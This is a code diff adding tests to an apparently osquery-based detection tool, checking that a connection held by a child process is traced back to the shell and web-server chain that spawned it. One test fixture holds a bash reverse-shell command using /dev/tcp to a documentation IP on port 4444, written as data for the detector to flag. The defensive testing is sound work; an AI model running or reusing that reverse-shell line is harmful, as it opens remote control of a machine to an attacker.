@@ -143,3 +143,60 @@ def test_cli_json_and_text(fleet_db: Path, tmp_path: Path) -> None:  # noqa: F81
     assert "parts: rarity" in text.stdout
     bad = CliRunner().invoke(main, ["explain", "--db", str(db), "web-07", "bash", "--at", "soon"])
     assert bad.exit_code == 2 and "--at" in bad.output
+
+
+def test_a_child_holding_the_shells_socket_names_the_shell(
+    store: Store, config: Config, tmp_path: Path
+) -> None:
+    """osquery names one holder per socket (often the child): the chain names the shell."""
+    shell = "bash -c exec 3<>/dev/tcp/203.0.113.50/4444; sleep 600"
+    row = socket_row(
+        pid=5001,
+        name="sleep",
+        path="/usr/bin/sleep",
+        cmdline="sleep 600",
+        remote_address="203.0.113.50",
+        parent=5000,
+        parent_name="bash",
+        parent_path="/usr/bin/bash",
+        parent_cmdline=shell,
+        grandparent=4000,
+        grandparent_name="php-fpm8.2",
+        grandparent_path="/usr/sbin/php-fpm8.2",
+        grandparent_cmdline="php-fpm: pool www",
+        great_grandparent=1,
+        great_grandparent_name="systemd",
+        great_grandparent_path="/usr/lib/systemd/systemd",
+        great_grandparent_cmdline="/sbin/init",
+    )
+    log = tmp_path / "child.log"
+    log.write_bytes(line(event(row, host="web-03", unix=ATTACK_AT + 50)))
+    Ingester(store, load_config(None, env={})).ingest([str(log)])
+    run = detect_once(store, config.detect, RUN_AT)
+    (doc,) = [d for d in run.documents if d["process"]["name"] == "sleep"]
+    assert f"held by a child of the shell bash (pid 5000): {shell}" in doc["reason"]
+    assert doc["process"]["parent"] == {
+        "pid": 5000,
+        "name": "bash",
+        "executable": "/usr/bin/bash",
+        "command_line": shell,
+    }
+    assert [(a["pid"], a["name"]) for a in doc["process"]["chain"]] == [
+        (5000, "bash"),
+        (4000, "php-fpm8.2"),
+        (1, "systemd"),
+    ]
+    assert doc["explanation"]["lineage"]["shell"]["executable"] == "/usr/bin/bash"
+    finding = why(store, config.detect, "web-03", "/usr/bin/sleep", RUN_AT).findings[0]
+    assert "held by a child of the shell bash" in finding.reason
+
+
+def test_ancestor_columns_are_checked_like_any_field(tmp_path: Path) -> None:
+    from baseline.ingest.normalise import Normaliser
+    from baseline.ingest.parser import Parser
+
+    parser = Parser(Normaliser())
+    bad = parser.parse_line(line(event(socket_row(parent_path="/x", grandparent="many"))))
+    assert bad.observations == [] and "grandparent" in bad.errors[0]
+    old = parser.parse_line(line(event(socket_row())))
+    assert old.observations[0].ancestors == ""  # older packs: parent pid and name only
